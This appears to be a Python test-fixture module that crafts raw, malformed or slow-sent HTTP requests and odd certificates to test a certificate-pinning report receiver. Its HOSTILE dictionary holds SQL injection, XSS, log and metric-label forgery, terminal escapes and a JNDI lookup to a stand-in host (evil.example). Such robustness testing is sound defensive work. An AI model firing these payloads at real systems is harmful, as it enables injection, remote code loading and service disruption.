"""Requests as bytes, for what no client library would send; each function makes, from the key, the
parts that are written one after the other."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from functools import cache
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID, ObjectIdentifier

from tests.make import NOON, authority, body, chain, name, neutral, trustkit_ios, wrapped

Parts = Sequence[bytes | float]  # a number: seconds in which nothing is sent
LENGTH = ("POST /r/{key} HTTP/1.1", "Host: x")


def post(
    raw: bytes, *headers: str, target: str = "/r/{key}", method: str = "POST"
) -> Callable[[str], list[bytes]]:
    def made(key: str) -> list[bytes]:
        told = [
            f"{method} {target.format(key=key)} HTTP/1.1",
            "Host: x",
            f"Content-Length: {len(raw)}",
            *headers,
        ]
        return ["\r\n".join([*told, "", ""]).encode("utf-8", "surrogateescape") + raw]

    return made


def head(*lines: str | bytes, raw: bytes = b"") -> Callable[[str], list[bytes]]:
    """The lines of a request as they stand, a blank line, and a body."""

    def made(key: str) -> list[bytes]:
        told = [(line.encode() if isinstance(line, str) else line) for line in lines]
        return [
            b"\r\n".join([line.replace(b"{key}", key.encode()) for line in told])
            + b"\r\n\r\n"
            + raw
        ]

    return made


def with_header(*lines: str | bytes) -> Callable[[str], list[bytes]]:
    return head(*LENGTH, *lines, "Content-Length: 2", raw=b"{}")


def joined(*requests: Callable[[str], list[bytes]]) -> Callable[[str], Parts]:
    """Several requests in one write."""
    return lambda key: [b"".join(part for request in requests for part in request(key))]


def whole(raw: bytes) -> Callable[[str], Parts]:
    return lambda key: [raw.replace(b"{key}", key.encode())]


def chunked(
    *chunks: bytes, line: str = "Transfer-Encoding: chunked"
) -> Callable[[str], list[bytes]]:
    return head("POST /r/{key} HTTP/1.1", "Host: x", line, raw=b"".join(chunks))


@cache
def one(number: str = "") -> bytes:
    """A report of its own for each case."""
    return body(neutral(event_id=f"case {number}"))


def chunks_of(raw: bytes, size: int, extension: bytes = b"") -> bytes:
    pieces = [raw[i : i + size] for i in range(0, len(raw), size)]
    return b"".join(b"%x%b\r\n%b\r\n" % (len(p), extension, p) for p in pieces) + b"0\r\n\r\n"


def padded(size: int, number: str) -> bytes:
    """One item of exactly so many bytes."""
    told = body(neutral(event_id=number, pad="P"))
    return told.replace(b'"P"', b'"' + b"P" * (size - len(told) + 1) + b'"')


def trustkit(**changes: Any) -> bytes:
    return body(trustkit_ios(**changes))


def stretched(size: int, number: str) -> bytes:
    """A good item, and blanks up to so many bytes of body."""
    return one(number) + b"\n" * (size - len(one(number)))


@cache
def odd_certificate(kind: str) -> bytes:
    """DER of certificates that no authority issues."""
    root, _ = authority()
    subject, extra = name("odd.example.com"), b""
    public: Any = root.key.public_key()
    if kind == "subject":
        subject = x509.Name([x509.NameAttribute(NameOID.PSEUDONYM, "a" * 90_000, _validate=False)])
    if kind == "exponent":
        public = rsa.RSAPublicNumbers(2**4095 + 1, 2**4096 - 1).public_key()
    if kind == "modulus":
        public = rsa.RSAPublicNumbers(2**16_000 + 1, 2**16_384 - 1).public_key()
    if kind.isdigit():
        extra = b"\x04" * int(kind)
    builder = x509.CertificateBuilder(
        name("Pinfall Test Intermediate"), subject, public, 7, NOON, NOON
    )
    if extra:
        odd = x509.UnrecognizedExtension(ObjectIdentifier("1.3.6.1.4.1.99999.1"), extra)
        builder = builder.add_extension(odd, critical=False)
    return builder.sign(root.key, hashes.SHA256()).public_bytes(Encoding.DER)


def served(*ders: bytes, **changes: Any) -> bytes:
    return trustkit(validated_certificate_chain=[wrapped(der, 64, "\n") for der in ders], **changes)


def broken(kind: str) -> bytes:
    """The leaf with something wrong in its DER."""
    der = bytearray(chain()[0].der)
    spki = der.index(b"\x30\x59\x30\x13")  # an EC key's
    match kind:
        case "truncated":
            del der[-20:]
        case "indefinite":
            der[1:4] = b"\x80"
        case "overlapping":
            der[spki + 1] = 0x7F
        case "longer than told":
            der[2:4] = b"\xff\xff"
        case "length of lengths":
            der[1:4] = b"\xff" + b"\xff" * 127
    return bytes(der)


def dripped(raw: bytes, size: int, pause: float, more: int = 0) -> Callable[[str], Parts]:
    """The head at once, the body in pieces with a pause before each. more: bytes that never come."""

    def made(key: str) -> Parts:
        pieces = [raw[i : i + size] for i in range(0, len(raw), size)]
        told: list[bytes | float] = [head(*LENGTH, f"Content-Length: {len(raw) + more}")(key)[0]]
        for piece in pieces:
            told += [pause, piece]
        return told

    return made


HOSTILE = {
    "SQL": "'; DROP TABLE violation; --",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(2)>\"'",
    "line breaks that forge a line of a log": 'x\r\n{"event": "key.disabled", "level": "info"}\n',
    "escape sequences of a terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b1m",
    "text that forges a label of a metric": 'x"} 1\npinfall_up{a="',
    "templates": "{{7*7}} ${jndi:ldap://evil.example/x} %n%s #{7*7}",
}


def hostile(text: str) -> bytes:
    """The text in every field that takes one."""
    fields = {
        "event_id": text, "install_id": text, "confidence": text, "odd": text, text: text, "extra": {text: text},
        "observed_at": text, "subjects": [text],
        "app": {"id": text, "version": text, "build": text}, "os": {"name": text, "version": text},
        "device": {"model": text}, "sdk": {"name": text, "version": text}, "policy": {"pattern": text, "expires": text},
        "error": {"type": text, "code": text, "message": text}, "network": {"server_ip": text},
    }  # fmt: skip
    return body(neutral(**fields))
